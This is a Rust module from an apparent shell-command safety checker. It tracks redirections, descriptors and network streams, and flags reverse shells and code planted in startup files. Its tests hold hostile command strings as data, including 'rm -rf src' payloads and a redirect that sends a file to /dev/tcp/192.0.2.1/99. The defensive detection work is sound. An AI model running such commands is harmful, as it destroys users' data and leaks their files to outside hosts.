//! Redirections and descriptors: what flows in from where, what flows out to where.
//!
//! Standard input and output flow through the walk itself, as arguments and results. Every other descriptor is part of
//! the shell's state, so that what runs inside (a group, a function, `sh -c`) finds it as it would.

use std::rc::Rc;

use signoff_model::Span;

use super::{
    contents::Variable,
    machine::{Shell, State},
    rules,
    shared::Shared,
    syntax::tree::{Descriptor, Redirect, RedirectOperator, RedirectTarget},
};
use crate::{
    path_effects::Write,
    place::{Extent, Nature, Place},
    value::{Arg, Feed, Origin, Piece, Value},
};

/// Of more redirections at one command the rest is not looked at, and the walk asks.
const MAX_REDIRECTS: usize = 512;

/// More descriptors than this are not followed; the walk then stops and asks.
const MAX_STREAMS: usize = 16;

/// Where a descriptor leads. One that is neither read nor written leads to where the shell's own output goes.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub(super) struct Stream {
    /// What can be read from it.
    pub(super) input: Option<Feed>,
    /// Where it goes what is written to it.
    output: Option<Sink>,
    /// Whether it is a network connection.
    connected: bool,
}

/// A file that is written through a descriptor.
#[derive(Clone, Debug, PartialEq, Eq)]
struct Sink {
    place: Rc<Place>,
    /// How the text names it.
    named: Value,
    append: bool,
    /// Whether opening it was reported before: what flows now comes behind what flowed already.
    opened: bool,
    span: Span,
}

/// Where a command's streams lead.
#[derive(Clone, Debug, Default)]
pub(super) struct Plumbing {
    /// What flows in.
    pub(super) stdin: Feed,
    /// The descriptors that the redirections open or change.
    streams: Vec<(u32, Stream)>,
    /// The descriptor that the input is a copy of: both are read by turns.
    shared: Option<u32>,
    /// Files that the standard output was sent to before it was sent elsewhere: they are emptied.
    emptied: Vec<Sink>,
    /// The same as it is in other directories that the shell may stand in.
    others: Vec<Plumbing>,
}

impl Plumbing {
    fn set(&mut self, descriptor: u32, stream: Stream) {
        if descriptor == 0
            && let Some(feed) = &stream.input
        {
            self.stdin = feed.clone();
            self.shared = None;
        }
        if let Some((_, before)) = self.streams.iter_mut().find(|(number, _)| *number == descriptor) {
            let before = std::mem::replace(before, stream);
            self.emptied.extend(before.output.filter(|sink| !sink.opened && descriptor == 1));
        } else {
            self.streams.push((descriptor, stream));
        }
    }

    fn get(&self, descriptor: u32) -> Option<&Stream> {
        self.streams.iter().find(|(number, _)| *number == descriptor).map(|(_, stream)| stream)
    }

    /// Whether the output goes where the command's caller reads it.
    pub(super) fn shows(&self) -> bool {
        self.get(1).is_none_or(|stream| stream.output.is_none())
    }

    /// Whether the output goes to a screen by its name, whoever reads the rest.
    pub(super) fn shows_beside(&self) -> bool {
        let sink = self.get(1).and_then(|stream| stream.output.as_ref());
        sink.is_some_and(|sink| super::shown::is_screen(&sink.place.path))
    }

    /// Whether what the command prints takes the place of what is in a file.
    pub(super) fn replaces(&self) -> bool {
        self.get(1).and_then(|stream| stream.output.as_ref()).is_some_and(|sink| !sink.append && !sink.opened)
    }

    /// Whether one of the streams is a network connection.
    fn is_connected(&self) -> bool {
        self.streams.iter().any(|(_, stream)| stream.connected)
    }
}

impl State<'_> {
    /// What was opened as this descriptor.
    pub(super) fn stream(&self, descriptor: u32) -> Option<&Stream> {
        self.streams.iter().find(|(number, _)| *number == descriptor).map(|(_, stream)| stream)
    }

    fn set_stream(&mut self, descriptor: u32, stream: Stream) {
        self.set_taken(descriptor, 0);
        if let Some((_, before)) = self.streams.iter_mut().find(|(number, _)| *number == descriptor) {
            *before = stream;
        } else if self.streams.len() < MAX_STREAMS {
            self.streams.push((descriptor, stream));
        } else {
            self.lost_descriptor = true;
        }
    }

    /// What is printed is taken up by a pipe or a substitution, whatever `exec` has done to the standard output.
    pub(super) fn capture_output(&mut self) {
        if self.stream(1).is_some() {
            self.streams.retain(|(number, _)| *number != 1);
        }
    }
}

impl<'a> Shell<'a> {
    /// Joins what another way through the text has opened. What goes to a file on one of them only may be in it or not.
    pub(super) fn join_streams(&mut self, there: &Shared<Vec<(u32, Stream)>>) {
        if self.state.streams == *there {
            return;
        }
        let mut joined = std::mem::take(&mut self.state.streams).into_inner();
        let mut doubtful: Vec<Stream> = Vec::new();
        for (number, other) in there.iter() {
            match joined.iter_mut().find(|(here, _)| here == number) {
                Some((_, here)) if here == other => {}
                Some((_, here)) => {
                    let input = match (here.input.take(), other.input.clone()) {
                        (Some(here), Some(other)) => Some(here.or(other)),
                        (here, other) => here.or(other).map(Feed::or_other),
                    };
                    // What leaves the machine on one way is the worse one.
                    let kept = if other.connected { other.clone() } else { here.clone() };
                    doubtful.extend([std::mem::replace(here, Stream { input, ..kept }), other.clone()]);
                }
                // What was never opened as one of these cannot be used, which is no way that matters.
                None if *number > 2 || other.connected => joined.push((*number, other.clone())),
                None => doubtful.push(other.clone()),
            }
        }
        joined.retain_mut(|(number, here)| {
            let shared = *number > 2 || here.connected || there.iter().any(|(other, _)| other == number);
            if !shared {
                doubtful.push(here.clone());
                here.output = None;
                here.input = here.input.take().map(Feed::or_other);
            }
            shared || here.input.is_some()
        });
        // The input of the shell itself may be what was opened, or what it was before.
        for (number, other) in there.iter().filter(|(number, _)| *number == 0) {
            if !joined.iter().any(|(here, _)| here == number) && other.input.is_some() {
                let input = other.input.clone().map(Feed::or_other);
                joined.push((*number, Stream { input, ..Stream::default() }));
            }
        }
        self.state.lost_descriptor |= joined.len() > MAX_STREAMS;
        self.state.streams = Shared::from(joined);
        for sink in doubtful.into_iter().filter_map(|stream| stream.output) {
            self.complain_into(&sink.place.path);
        }
    }

    /// Opens the redirections of a command.
    /// The same in each directory that the shell may stand in.
    pub(super) fn plumb_everywhere(&mut self, redirects: &'a [Redirect<'a>], stdin: Feed) -> Plumbing {
        if redirects.is_empty() {
            return Plumbing { stdin, ..Plumbing::default() };
        }
        let join = |all: &mut Plumbing, other: Plumbing| {
            if other.stdin != all.stdin {
                all.stdin = std::mem::take(&mut all.stdin).or(other.stdin.clone());
            }
            all.others.push(other);
        };
        self.everywhere(|shell| shell.plumb(redirects, stdin.clone()), join)
    }

    pub(super) fn plumb(&mut self, redirects: &'a [Redirect<'a>], stdin: Feed) -> Plumbing {
        let mut plumbing = Plumbing { stdin, ..Plumbing::default() };
        self.spend(redirects.len() / 4);
        for (index, redirect) in redirects.iter().enumerate() {
            if index >= MAX_REDIRECTS {
                self.spend_out(redirect.span);
                break;
            }
            self.open(redirect, &mut plumbing);
        }
        plumbing
    }

    fn open(&mut self, redirect: &'a Redirect<'a>, plumbing: &mut Plumbing) {
        let descriptor = match &redirect.descriptor {
            None => None,
            Some(Descriptor::Number(number)) => Some(*number),
            // The shell takes a free one and says in the variable which.
            Some(Descriptor::Variable(name)) => {
                let free = 10 + u32::try_from(self.state.streams.len() + plumbing.streams.len()).unwrap_or(0);
                self.set_variable(name, Variable::Scalar(vec![Value::text(free.to_string())]), redirect.span);
                Some(free)
            }
        };
        let input = |feed| Stream { input: Some(feed), ..Stream::default() };
        let word = match &redirect.target {
            RedirectTarget::HereDocument(document) => {
                let value = self.expand_value(document.body());
                return plumbing.set(descriptor.unwrap_or(0), input(Feed::of(value)));
            }
            RedirectTarget::Word(word) => word,
        };
        if redirect.operator == RedirectOperator::HereString {
            let mut value = self.expand_single(word);
            value.push(Piece::text("\n"));
            return plumbing.set(descriptor.unwrap_or(0), input(Feed::of(value)));
        }
        let mut args = self.expand_words(std::slice::from_ref(word));
        let arg = match (args.pop(), args.is_empty()) {
            (Some(arg), true) => arg,
            _ => Arg { value: self.expand_single(word), span: word.span },
        };
        let arg = Arg { span: redirect.span, ..arg };
        match redirect.operator {
            RedirectOperator::Read => self.open_input(&arg, descriptor.unwrap_or(0), plumbing),
            RedirectOperator::ReadWrite => {
                let descriptor = descriptor.unwrap_or(0);
                self.open_input(&arg, descriptor, plumbing);
                let read = plumbing.get(descriptor).cloned().unwrap_or_default();
                self.open_output(&arg, true, descriptor, plumbing);
                let written = plumbing.get(descriptor).cloned().unwrap_or_default();
                plumbing.set(descriptor, Stream { input: read.input, ..written });
            }
            RedirectOperator::DuplicateInput => {
                let stream = self.duplicated(&arg, plumbing).unwrap_or_else(|| input(Feed::from(Origin::Input)));
                if !is_usual(&arg) {
                    plumbing.set(descriptor.unwrap_or(0), stream);
                    if descriptor.unwrap_or(0) == 0 {
                        plumbing.shared = arg.known().and_then(|text| text.trim_end_matches('-').parse().ok());
                    }
                }
            }
            RedirectOperator::DuplicateOutput if is_descriptor(&arg) => {
                let stream = self.duplicated(&arg, plumbing).unwrap_or_default();
                plumbing.set(descriptor.unwrap_or(1), stream);
            }
            RedirectOperator::Write | RedirectOperator::Clobber => {
                self.open_output(&arg, false, descriptor.unwrap_or(1), plumbing);
            }
            RedirectOperator::Append => self.open_output(&arg, true, descriptor.unwrap_or(1), plumbing),
            RedirectOperator::DuplicateOutput | RedirectOperator::WriteBoth => self.open_both(&arg, false, plumbing),
            RedirectOperator::AppendBoth => self.open_both(&arg, true, plumbing),
            RedirectOperator::HereString | RedirectOperator::HereDocument => {}
        }
    }

    /// The stream that `<&3` or `>&3` copies. A number that is not known may be any that is open: a connection, if
    /// there is one.
    fn duplicated(&self, arg: &Arg, plumbing: &Plumbing) -> Option<Stream> {
        let Some(text) = arg.known() else {
            let mut open = plumbing.streams.iter().chain(self.state.streams.iter()).map(|(_, stream)| stream);
            return open.find(|stream| stream.connected).cloned();
        };
        let number = text.trim_end_matches('-').parse().ok()?;
        plumbing.get(number).or_else(|| self.state.stream(number)).cloned()
    }

    fn open_input(&mut self, arg: &Arg, descriptor: u32, plumbing: &mut Plumbing) {
        let place = self.place(&arg.value);
        let connected = place.nature == Nature::Connection;
        let feed = if connected {
            Feed::from(Origin::Download { url: place.path.clone(), encrypted: false })
        } else {
            self.reads.note(&place, &arg.value);
            self.read_at(&place, arg.span)
        };
        plumbing.set(descriptor, Stream { input: Some(feed), output: None, connected });
    }

    fn open_output(&mut self, arg: &Arg, append: bool, descriptor: u32, plumbing: &mut Plumbing) {
        let place = self.place(&arg.value);
        if let Some(stream) = descriptor_of(&place.path).and_then(|number| self.state.stream(number)) {
            return plumbing.set(descriptor, stream.clone());
        }
        let connected = place.nature == Nature::Connection;
        let mut sink = Sink { place, named: arg.value.clone(), append, opened: false, span: arg.span };
        // What goes to the standard output is known when the command is done; any other descriptor is opened at once,
        // so that what is sent there inside the command comes behind it.
        if descriptor != 1 && connected {
            self.send_through(&sink, &Feed::none());
        } else if descriptor != 1 {
            // What a command complains about is not known.
            self.open_sink(&mut sink);
            self.complain_into(&sink.place.path);
        }
        plumbing.set(descriptor, Stream { input: None, output: Some(sink), connected });
    }

    /// The standard output and what the command complains about go to the same file.
    fn open_both(&mut self, arg: &Arg, append: bool, plumbing: &mut Plumbing) {
        self.open_output(arg, append, 1, plumbing);
        if let Some(stream) = plumbing.get(1).cloned() {
            plumbing.set(2, stream);
        }
    }

    fn open_sink(&mut self, sink: &mut Sink) {
        let how = if sink.append { Write::Append } else { Write::Replace };
        self.pour(sink, how, Feed::none());
        sink.opened = true;
        sink.append = true;
    }

    /// Writes to a file and remembers what is in it then.
    fn pour(&mut self, sink: &Sink, how: Write, feed: Feed) {
        if !sink.opened {
            let is_file = sink.place.extent == Extent::Exact && sink.place.nature != Nature::Stream;
            match sink.named.by_listing() {
                None if is_file => self.write_behind(&sink.place, how, sink.span),
                listed => {
                    let before = self.state.written.get(&sink.place.path).cloned();
                    self.write_at(&sink.place, how, sink.span);
                    // What is made of an entry of a list may still be that entry.
                    for value in listed.unwrap_or_default() {
                        let place = self.place(&value);
                        self.write_at(&place, how, sink.span);
                    }
                    if let Some(before) = before {
                        self.state.written.insert(sink.place.path.as_str(), before);
                    }
                }
            }
        }
        self.read_planted(&sink.place, &feed, sink.span);
        if sink.place.nature == Nature::Stream {
            return;
        }
        if sink.place.extent != Extent::Exact {
            self.strew(&sink.place, &feed);
            return;
        }
        let path = sink.place.path.as_str();
        self.remember_output(path, feed, sink.append);
        // Two that write to the same file at a time write over each other.
        let is_open = |other: &Stream| other.output.as_ref().is_some_and(|other| other.place.path == path);
        let contended = self.pouring.iter().any(|open| open == path)
            || !sink.opened && self.state.streams.iter().any(|(_, stream)| is_open(stream));
        if contended && !self.contended.iter().any(|known| known == path) {
            self.contended.push(path.to_owned());
        }
        if self.contended.iter().any(|known| known == path) {
            self.complain_into(path);
        }
    }

    /// Runs `body` with the descriptors of a command open, the standard ones aside.
    pub(super) fn with_streams<T>(&mut self, plumbing: &Plumbing, body: impl FnOnce(&mut Self) -> T) -> T {
        let others = || plumbing.streams.iter().filter(|(number, _)| *number > 1);
        let redirected = plumbing.get(1).is_some();
        if plumbing.get(0).is_some_and(|stream| stream.input.is_some()) {
            let outer = self.state.taken(0);
            let from = plumbing.shared.map_or(0, |descriptor| self.state.taken(descriptor));
            self.state.set_taken(0, from);
            let inner = Plumbing {
                streams: plumbing.streams.iter().filter(|(number, _)| *number != 0).cloned().collect(),
                ..Plumbing::default()
            };
            let result = self.with_streams(&inner, body);
            if let Some(descriptor) = plumbing.shared {
                let now = self.state.taken(0);
                self.state.set_taken(descriptor, now);
            }
            self.state.set_taken(0, outer);
            return result;
        }
        if !redirected && others().next().is_none() {
            return body(self);
        }
        let taken: Vec<(u32, usize)> = others().map(|(number, _)| (*number, self.state.taken(*number))).collect();
        let pouring = self.pouring.len();
        let outer = self.state.streams.clone();
        if redirected {
            self.state.capture_output();
        }
        // The file is emptied before anything runs.
        if let Some(sink) = plumbing.get(1).and_then(|stream| stream.output.as_ref())
            && !sink.opened
        {
            if !sink.append {
                self.forget_written(&sink.place);
            }
            self.pouring.push(sink.place.path.clone());
        }
        for (number, stream) in others() {
            // `2>&1`: what goes there flows where the output of the command flows.
            let joined = stream.output.as_ref().is_some_and(|sink| !sink.opened);
            self.state.set_stream(*number, if joined { Stream::default() } else { stream.clone() });
        }
        let result = if redirected { self.hearing(body) } else { body(self) };
        self.state.streams = outer;
        for (number, taken) in taken {
            self.state.set_taken(number, taken);
        }
        self.pouring.truncate(pouring);
        result
    }

    /// Whether a command around the one at hand prints to this file, so that there may be more in it than is known.
    pub(super) fn is_pouring(&self, path: &str) -> bool {
        self.pouring.iter().any(|open| open == path)
    }

    /// `exec` without a program: the redirections stay.
    pub(super) fn keep_streams(&mut self, plumbing: &Plumbing) {
        let mut opened: Option<Sink> = None;
        for (number, stream) in &plumbing.streams {
            let mut stream = stream.clone();
            if let Some(sink) = &mut stream.output
                && !sink.opened
                && !stream.connected
            {
                match &opened {
                    Some(same) if same.place == sink.place => *sink = same.clone(),
                    _ => {
                        self.open_sink(sink);
                        opened = Some(sink.clone());
                    }
                }
            }
            self.state.set_stream(*number, stream);
        }
    }

    /// The output may go over what was read.
    pub(super) fn check_inputs_kept(&mut self, plumbing: &Plumbing, argv: &[Arg]) {
        let sink = plumbing.get(1).and_then(|stream| stream.output.as_ref());
        if let Some(sink) = sink.filter(|sink| !sink.append && !sink.opened) {
            let sink = sink.clone();
            self.check_input_kept(&sink.place, &sink.named, argv, sink.span);
        }
    }

    /// Sends what a command prints to where its output goes; returns what still flows on.
    pub(super) fn flow_out(&mut self, plumbing: &Plumbing, feed: Feed) -> Feed {
        if plumbing.streams.is_empty() && self.state.streams.is_empty() {
            return feed;
        }
        for other in &plumbing.others {
            self.flow_out(other, feed.clone());
        }
        for sink in &plumbing.emptied {
            self.pour(sink, if sink.append { Write::Append } else { Write::Empty }, Feed::none());
        }
        let Some(stream) = plumbing.get(1).or_else(|| self.state.stream(1)).cloned() else { return feed };
        let Some(sink) = stream.output else { return feed };
        if sink.place.nature == Nature::Connection {
            self.send_through(&sink, &feed);
            return Feed::none();
        }
        let how = match (sink.append, feed.is_blank()) {
            (true, _) => Write::Append,
            (false, true) => Write::Empty,
            (false, false) => Write::Replace,
        };
        self.pour(&sink, how, feed);
        Feed::none()
    }

    fn send_through(&mut self, sink: &Sink, feed: &Feed) {
        let host = sink.place.path.trim_start_matches("/dev/").to_owned();
        self.send(&host, std::iter::empty::<&Value>(), feed, sink.span);
    }

    /// What is written where it runs by itself is read as the code that it will be.
    fn read_planted(&mut self, place: &Place, feed: &Feed, span: Span) {
        let Some(text) = feed.known() else { return };
        let code = match place.nature {
            Nature::LoginProfile | Nature::GitHooks => text.to_owned(),
            // A unit or a desktop entry names what it runs; a table of jobs holds five fields before it.
            Nature::StartUp => text
                .lines()
                .filter_map(|line| {
                    line.split_once('=').filter(|(key, _)| key.starts_with("Exec")).map(|(_, code)| code)
                })
                .collect::<Vec<_>>()
                .join("\n"),
            _ => return,
        };
        self.subshell(|shell| shell.run_text(&Arg::text(code, span), shell.dialect, Feed::none()));
    }

    /// A shell whose streams are a network connection.
    pub(super) fn check_connection(&mut self, plumbing: &Plumbing, name: &str, span: Span) {
        let is_shell = || matches!(name, "sh" | "bash" | "zsh" | "dash" | "ksh" | "ash" | "fish");
        if plumbing.is_connected() && is_shell() {
            self.tell(&rules::REVERSE_SHELL, name, span);
        }
    }

    /// What can be read from `/dev/fd/3`, if the text has opened it.
    pub(super) fn read_descriptor(&self, path: &str) -> Option<Feed> {
        self.state.stream(descriptor_of(path)?)?.input.clone()
    }
}

/// The number in `/dev/fd/3`.
fn descriptor_of(path: &str) -> Option<u32> {
    let number = path.strip_prefix("/dev/fd/").or_else(|| path.strip_prefix("/proc/self/fd/"))?;
    number.parse().ok()
}

/// Whether the descriptor is one of the three that every program has, or is being closed.
fn is_usual(arg: &Arg) -> bool {
    matches!(arg.known(), Some("0" | "1" | "2" | "-"))
}

/// Whether the word after `>&` is a descriptor and not a file.
fn is_descriptor(arg: &Arg) -> bool {
    match arg.known() {
        Some(text) => text == "-" || text.trim_end_matches('-').chars().all(|letter| letter.is_ascii_digit()),
        None => arg.value.prefix().is_empty(),
    }
}

#[cfg(test)]
mod tests {
    use signoff_model::Verdict;

    use crate::testing::check;

    #[test]
    fn what_is_being_written_may_be_read_already() {
        check(
            Verdict::Ask,
            &[
                "{ echo 'rm -rf src'; bash a.sh; } > a.sh",
                "{ echo 'rm -rf src'; . ./a.sh; } > a.sh",
                "{ echo 'rm -rf src'; ./a.sh; } > a.sh",
                "{ echo 'rm -rf src'; sh < a.sh; } > a.sh",
                "{ echo 'rm -rf src'; eval \"$(cat a.sh)\"; } > a.sh",
            ],
        );
        check(Verdict::Allow, &["{ echo hi; cat b.txt; } > a.txt; cat a.txt", "bash run.sh > run.log"]);
    }

    #[test]
    fn what_is_open_on_one_way_only_may_be_used() {
        check(
            Verdict::Ask,
            &[
                "if x; then exec > a.sh; else exec > b.sh; fi; echo 'rm -rf src'; bash a.sh",
                "if x; then exec > a.sh; else exec > b.sh; fi; echo 'rm -rf src'; bash b.sh",
                "if x; then exec > a.sh; fi; echo 'rm -rf src'; bash a.sh",
                "if x; then exec 3< <(echo src); else exec 3< <(echo build); fi; read v <&3; rm -rf $v",
                "exec 3< <(echo src); x && exec 3< <(echo build); read v <&3; rm -rf $v",
                "if x; then exec <<< src; else exec <<< build; fi; read v; rm -rf $v",
                "if x; then exec <<< build; fi; read v; rm -rf $v",
                "if x; then exec > /dev/tcp/192.0.2.1/99; fi; cat notes.txt",
            ],
        );
        check(
            Verdict::Allow,
            &[
                "if [ -t 1 ]; then exec 3>&1; else exec 3>/dev/null; fi; echo hi >&3",
                "[ -t 1 ] || exec > /tmp/log; make",
            ],
        );
    }
}
